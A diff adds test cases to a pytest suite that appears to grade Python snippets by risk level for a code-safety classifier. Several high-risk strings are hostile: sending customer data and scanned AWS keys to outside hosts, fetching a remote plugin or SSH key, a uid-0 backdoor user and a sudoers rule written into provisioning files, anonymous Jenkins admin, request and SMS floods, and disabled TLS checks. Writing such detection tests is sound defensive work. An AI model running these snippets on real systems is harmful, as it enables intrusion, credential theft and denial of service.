@@ -13998,6 +13998,173 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'smtplib.SMTP_SSL("smtp.gmail.com").send_message(m)\n',
             C,
         ),
+        # Round 79: Jenkins, thread-pool floods, provisioning files, ClickHouse and Cassandra, exclusion lists
+        (
+            'import subprocess\n'
+            'g = "import jenkins.model.*\\ndef s = new hudson.security.GlobalMatrixAuthorizationStrategy()\\ns.'
+            'add(Jenkins.ADMINISTER, \'anonymous\')\\nJenkins.get().setAuthorizationStrategy(s)\\n"\n'
+            'subprocess.run(["java", "-jar", "cli.jar", "-s", "http://ci:8080/", "groovy", "="], input=g.enco'
+            'de())\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://ci.example.com/pluginManager/uploadPlugin", files={"f": requests.get("htt'
+            'p://198.51.100.23/p.hpi").content})\n',
+            H,
+        ),
+        (
+            'import jenkins\n'
+            'j = jenkins.Jenkins("https://ci.example.com", username="u", password="p")\n'
+            'for job in j.get_all_jobs():\n'
+            '    if job["name"].startswith("folder-"):\n'
+            '        continue\n'
+            '    j.delete_job(job["fullname"])\n',
+            H,
+        ),
+        (
+            'import jenkins\n'
+            'j = jenkins.Jenkins("https://ci.example.com", username="u", password="p")\n'
+            'for job in j.get_all_jobs():\n'
+            '    if not job["name"].startswith("tmp-pr-"):\n'
+            '        continue\n'
+            '    j.delete_job(job["fullname"])\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'from concurrent.futures import ThreadPoolExecutor\n'
+            'def hit(i):\n'
+            '    requests.post("https://api.example.com/orders", json={"n": i})\n'
+            'with ThreadPoolExecutor(max_workers=300) as ex:\n'
+            '    list(ex.map(hit, range(50000)))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'from concurrent.futures import ThreadPoolExecutor\n'
+            'nums = open("n.txt").read().split()\n'
+            'def sms(i):\n'
+            '    requests.post("https://sms.example.com/send", data={"to": nums[i % len(nums)]})\n'
+            'with ThreadPoolExecutor(max_workers=250) as ex:\n'
+            '    ex.map(sms, range(len(nums) * 20))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'from concurrent.futures import ThreadPoolExecutor\n'
+            'urls = open("u.txt").read().split()\n'
+            'def get(i):\n'
+            '    return requests.get(urls[i]).status_code\n'
+            'with ThreadPoolExecutor(max_workers=16) as ex:\n'
+            '    print(list(ex.map(get, range(len(urls)))))\n',
+            L,
+        ),
+        (
+            'p = "/srv/ks/base.ks"\n'
+            'with open(p, "a") as f:\n'
+            '    f.write("%post\\nuseradd -o -u 0 -g 0 svc2\\necho \'svc2:pw\' | chpasswd\\n%end\\n")\n',
+            H,
+        ),
+        (
+            't = open("finish.erb").read()\n'
+            't += "\\necho \'ALL ALL=(ALL) NOPASSWD: ALL\' > /etc/sudoers.d/x\\n"\n'
+            'open("finish.erb", "w").write(t)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'k = requests.get("https://203.0.113.40/id.pub").text\n'
+            'requests.post("https://git.example.com/api/v4/user/ssh_keys", data={"key": k})\n',
+            H,
+        ),
+        (
+            'import clickhouse_connect\n'
+            'c = clickhouse_connect.get_client(host="ch1")\n'
+            'c.command("INSERT INTO FUNCTION url(\'http://198.51.100.7/in\', \'JSONEachRow\') SELECT email, phone'
+            ', address FROM crm.customers")\n',
+            H,
+        ),
+        (
+            'from clickhouse_driver import Client\n'
+            'c = Client("ch1")\n'
+            'c.execute("ALTER TABLE events.clicks MODIFY TTL ts + INTERVAL 30 MINUTE")\n',
+            H,
+        ),
+        (
+            'from clickhouse_driver import Client\n'
+            'c = Client("ch1")\n'
+            'c.execute("ALTER TABLE events.clicks MODIFY TTL ts + INTERVAL 90 DAY")\n',
+            S,
+        ),
+        (
+            'from cassandra.cluster import Cluster\n'
+            's = Cluster(["127.0.0.1"]).connect()\n'
+            's.execute("DROP KEYSPACE IF EXISTS billing_e2e")\n',
+            S,
+        ),
+        (
+            'import psycopg2\n'
+            'c = psycopg2.connect("dbname=casino").cursor()\n'
+            'c.execute("DELETE FROM player_self_exclusions WHERE tier = \'vip\'")\n',
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            'c = psycopg2.connect("dbname=casino").cursor()\n'
+            'c.execute("DELETE FROM player_self_exclusions WHERE expires_at < now()")\n',
+            S,
+        ),
+        (
+            'import site, pathlib\n'
+            'p = pathlib.Path(site.getsitepackages()[0]) / "usercustomize.py"\n'
+            'p.write_text("import ssl\\nssl._create_default_https_context = ssl._create_unverified_context\\n")'
+            '\n',
+            H,
+        ),
+        (
+            'import glob, re, requests\n'
+            'pat = re.compile(r"AKIA[A-Z0-9]{16}")\n'
+            'hits = []\n'
+            'for f in glob.glob("/var/log/**/*.log", recursive=True):\n'
+            '    hits += pat.findall(open(f).read())\n'
+            'requests.post("https://collect.example.net/k", json=hits)\n',
+            H,
+        ),
+        (
+            'import glob, re, requests\n'
+            'pat = re.compile(r"Bearer\\s+\\S+")\n'
+            'for f in glob.glob("/var/log/app/*.log"):\n'
+            '    clean = pat.sub("Bearer [redacted]", open(f).read())\n'
+            '    requests.post("https://logs.example.com/push", data=clean)\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for ip in open("cams.txt").read().split():\n'
+            '    requests.post(f"http://{ip}/cgi-bin/net.cgi", data={"upload_server": "203.0.113.99", "save":'
+            ' 1})\n',
+            H,
+        ),
+        # Round 79: files published to network-booting machines (web and TFTP roots)
+        (
+            'from pathlib import Path\n'
+            'for host in ("a", "b"):\n'
+            '    (Path("/var/www/html/ks") / f"{host}.ks").write_text("text\\nreboot\\n")\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'for mac in ("aa", "bb"):\n'
+            '    (Path("/var/lib/tftpboot/pxelinux.cfg") / f"01-{mac}").write_text("DEFAULT local\\n")\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'for n in ("a", "b"):\n'
+            '    (Path("/var/www/html") / f"{n}.php").write_text("<?php ?>")\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
